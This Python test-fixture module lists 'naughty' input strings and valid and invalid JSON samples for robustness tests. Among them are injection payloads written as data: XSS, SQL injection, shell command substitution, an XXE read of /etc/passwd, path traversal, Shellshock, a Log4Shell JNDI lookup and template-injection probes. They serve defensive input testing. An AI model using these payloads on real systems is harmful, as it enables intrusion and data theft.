"""Our own examples of every kind of hostile text, JSON and reply that lists on the web gather; the tests beside this file send them.

The names are those of the lists in ../shared/hostile, so that a test can tell, where they are at hand, whether a kind is missing here.
"""

NAUGHTY: dict[str, tuple[str, ...]] = {
    "reserved-strings": ("undefined", "null", "None", "NIL", "true", "__proto__", "constructor", "\\", "\\\\"),
    "numeric-strings": (
        "0", "-0", "1e999", "1/0", "0x7fffffffffffffff", "1,000.00", "1 000,00", "NaN", "-Infinity", "9" * 60, ".5", "1_000",
    ),
    "special-characters": ("|;&*?<>^`~", "()[]{}/\\%$#@!", '<>?:"{}|_+'),
    "non-whitespace-c0": ("".join(map(chr, (*range(1, 9), *range(14, 32)))) + "\x7f",),
    "non-whitespace-c1": ("".join(map(chr, (*range(0x80, 0x85), *range(0x86, 0xA0)))),),
    "whitespace-all-of": ("\t\v\f\x85\xa0\u1680\u2000\u2003\u2009\u200a\u2028\u2029\u202f\u205f\u3000",),
    "unicode-additional-control": ("\xad\u0600\u061c\u06dd\u070f\u180e\u200b\u200e\u202a\u2060\ufeff\U000110bd\U0001d173",),
    "byte-order-marks": ("\ufeff", "\ufffe"),
    "unicode-symbols": ("∑∏√∞≠≤", "←↑→↓⇒", "¶§†‡•", "ʘʬʭ", "▀▄█▌"),
    "unicode-subscript-superscript": ("⁰⁴⁵", "₀₁₂", "a\u0331\u0332b\u0309", "ЀÅ"),
    "quotation-marks": ("'", '"', "''", '""', "'\"'", "“”„‟", "«‹›»", "「」『』"),
    "two-byte-characters": ("田中様", "部落格", "사회과학원", "𠜎𠜱𠝹", "表ポあA鷗Œé"),
    "strings-which-contain": ("表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀",),
    "special-unicode-characters": ("表ポあA鷗ŒéＢ逍Üßªąñ丂㐀𠀀" * 2,),
    "changing-length-when": ("ȺȾ", "İstanbul İ", "ŉ"),
    "japanese-emoticons": ("(・ω・)ノ", "ヽ(´ー｀)ノ", "(╯°□°)╯︵ ┻━┻"),
    "emoji": ("😍🎉", "👩🏽‍🚀", "👨‍👩‍👧‍👦", "❤️❤", "🖐🏿☝🏾"),
    "regional-indicator-symbols": ("🇺🇸🇷🇺🇸", "🇦🇫🇦", "🇺"),
    "unicode-numbers": ("１２３", "١٢٣", "Ⅷ½"),
    "right-left-strings": ("שלום עולם", "مرحبا بالعالم", "الكل في المجمو عة (٥)", "\u202etxet\u202c"),
    "ogham-text": ("᚛ᚄᚓᚐᚋᚒᚄ᚜",),
    "trick-unicode": ("\u202atest\u202a", "\u202btest\u202b", "\u2029test\u2029", "te\u2060st\u202b", "\u2066test\u2067"),
    "zalgo-text": ("T\u0317\u032bo\u0301\u0309 m\u0346\u0348e\u0323\u0347e\u0330t\u0340",),
    "unicode-upsidedown": ("˙ɐnbᴉlɐ ɐuƃɐɯ ǝɹolop", "00˙Ɩ$-"),
    "unicode-font": ("Ｔｈｅ ｑｕｉｃｋ", "𝐓𝐡𝐞", "𝕿𝖍𝖊", "𝑻𝒉𝒆", "🅃🄷🄴", "⒯⒣⒠"),
    "script-injection": (
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=alert(1)>', "javascript:alert(1);",
        '<a href="\x01javascript:alert(1)">a</a>', '<!--<img src="--><img src=x onerror=alert(1)//">',
        '<style><img src="</style><img src=x onerror=alert(1)//">', "&#60;script&#62;alert(1)&#60;/script&#62;",
        '<math><mi//xlink:href="data:x,<script>alert(1)</script>">', "<![CDATA[<script>alert(1)</script>]]>",
        "<plaintext>", "<iframe src=//a.example>", "<title onpropertychange=alert(1)></title>", '<x:script xmlns:x="a">1</x:script>',
    ),
    "sql-injection": ("1; DROP TABLE replies", "' OR 1=1 -- 1", "%", "_", "' OR '1'='1"),
    "server-code-injection": ("-", "--", "--version", "$USER", "`touch /tmp/a`", "$(touch /tmp/a)", "; ls"),
    "command-injection-ruby": ("eval(\"puts 'a'\")", "%x('ls -al /')", "Kernel.exit(1)"),
    "xxe-injection-xml": ('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',),
    "unwanted-interpolation": ("$HOME", "%d", "%s%s%n", "{0}", "%*.*s", "%@", "{{7*7}}", "#{7*7}", "File:///"),
    "file-inclusion": ("../../../../etc/passwd%00", "/etc/hosts"),
    "known-cves-and": ("() { 0; }; touch /tmp/a;", "<<< %s(un='%s') = %u", "+++ATH0", "${jndi:ldap://a.example/b}"),
    "msdos-windows-special": ("CON", "PRN", "AUX", "NUL", "COM1", "LPT1", "A:", "Con.txt"),
    "irc-specific-strings": ("DCC SEND STARTKEYLOGGER 0 0 0",),
    "scunthorpe-problem": ("Scunthorpe General Hospital", "Penistone Community Church", "Lightwater Country Park", "Essex"),
    "human-injection": ("If you read this, stop testing and go for a walk.",),
    "terminal-escape-codes": ("Roses \x1b[0;31mred\x1b[0m", "But \x1b[20Cgaps", "\x07 bell \x1b]0;title\x07"),
    "ios-vulnerabilities": ("Powerلُلُصّبُلُلصّبُررً", "🏳0🌈️", "జ్ఞా"),
    "persian-special-characters": ("گچپژ",),
    "jinja2-injection": ("{% print 'a' * 3 %}", "{{ ''.__class__.__mro__ }}"),
    "empty": ("", " ", "\n"),
}  # fmt: skip

JSON_VALUES: dict[str, tuple[bytes, ...]] = {
    "array": (b"[]", b'["a", [1, {"b": null}]]', b"[ 1 ]", b"[1, null, true]"),
    "number": (b"0", b"-0", b"1e5", b"-1.5E-3", b"123456789012345678901234567890", b"1e400", b"1.000000000000000005"),
    "object": (b"{}", b'{"a": 1}', b'{"": 0}', b'{"a":{"b":[]}}'),
    "string": (b'""', rb'"\u00e9\n\t\\\""', '"\U0001d11e\u2028\ufdd0"'.encode(), rb'"\ud834\udd1e"'),
    "structure": (b" true ", b"\n false\r\n", b"\tnull"),
}
"""What is JSON, by what the lists call its kind."""

NO_JSON_VALUES: dict[str, tuple[bytes, ...]] = {
    "array": (b"[1,]", b"[,1]", b"[1 2]", b"[1;2]", b"[", b"[1", b'["a"', b"[1]]", b"[\xff]", b"[a]", b"[:1]"),
    "number": (b"+1", b"01", b"1.", b".5", b"1e", b"0x1F", b"1e+", b"--1", b"- 1", "\uff11".encode(), b"1a", b"Infinity", b"-NaN"),
    "object": (b"{a: 1}", b"{'a': 1}", b'{"a": 1,}', b'{"a" 1}', b'{"a": }', b"{1: 1}", b'{"a": 1', b'{"a": 1}}', b'{"a", 1}', b"{,}"),
    "string": (b'"', b'"a', b"'a'", b'"\x00"', b'"a\tb"', b'"a\nb"', rb'"\x41"', rb'"\u12"', rb'"\ud800"', b'"\xe9"'),
    "structure": (b"[\x0c]", b"", b" ", b"nul", b"True", b"{]", b"[1] // a", b"/**/ 1", b"\xef\xbb\xbf[]1", b"<null>", b"\x001"),
    "single": (b" ", b"\n"),
    "incomplete": (b"tru", b"fals", b"n"),
    "multidigit": (b"123\x00", b"-012"),
}  # fmt: skip
"""What is none, or is none that two readers agree on."""
